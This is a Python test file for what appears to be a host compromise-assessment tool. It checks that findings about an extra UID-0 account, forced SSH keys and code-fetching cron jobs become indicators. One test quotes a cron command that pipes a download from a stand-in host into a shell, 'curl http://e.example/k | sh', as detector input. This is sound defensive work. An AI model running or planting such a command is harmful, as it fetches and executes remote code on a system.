from __future__ import annotations

from dataclasses import replace

import pytest

from logged import finding, machine
from pratique.checks import all_checks
from pratique.model import Place, Severity
from pratique.parsers.authorized_keys import AuthorizedKey
from pratique.parsers.passwd import Account
from pratique.story.indicator.account import MADE, STARTING, accounts
from pratique.story.indicator.indicator import Kind

KEY = "SHA256:" + "k" * 43


def found(one, *rows):
    return [(each.kind, each.value) for each in accounts(machine(*rows), [one])]


def at_line(path, check, line, **changed):
    return replace(finding(path, check, Severity.HIGH), places=(Place(path, line),), **changed)


def test_the_checks_that_are_named_are_there():
    assert {check.slug for check in all_checks()} >= MADE | STARTING


def test_the_account_that_a_finding_names():
    made = Account("/etc/passwd", 40, "toor", 0, 0, "shadowed", "", "/root", "/bin/bash")
    one = at_line("/etc/passwd", "accounts-second-uid-0", 40)
    assert found(one, made) == [(Kind.ACCOUNT, "toor")]


def test_an_account_that_every_system_has_is_none():
    assert found(at_line("/etc/passwd", "accounts-home-odd", 2)) == []  # www-data
    assert found(at_line("/etc/passwd", "accounts-second-uid-0", 1)) == []  # root


def test_the_key_of_the_line_and_no_other():
    path = "/root/.ssh/authorized_keys"
    keys = [
        AuthorizedKey(path, 1, "root", "", "ssh-ed25519", "SHA256:" + "o" * 43, "anna@home"),
        AuthorizedKey(path, 2, "root", "", "ssh-ed25519", KEY, "x"),
    ]
    assert found(at_line(path, "persistence-authorized-key-forced", 2), *keys) == [(Kind.KEY, KEY)]


@pytest.mark.parametrize(
    ("quote", "values"),
    [("curl http://e.example/k | sh", ["curl http://e.example/k | sh"]), ("x" * 300, []), ("", [])],
)
def test_a_command_that_is_whole(quote, values):
    one = at_line("/etc/cron.d/x", "persistence-cron-fetches-code", 1, quote=quote)
    assert [value for _, value in found(one)] == values


def test_what_is_not_sure_gives_nothing():
    one = at_line("/etc/cron.d/x", "persistence-cron-fetches-code", 1, quote="x", confidence=0.3)
    assert found(one) == []
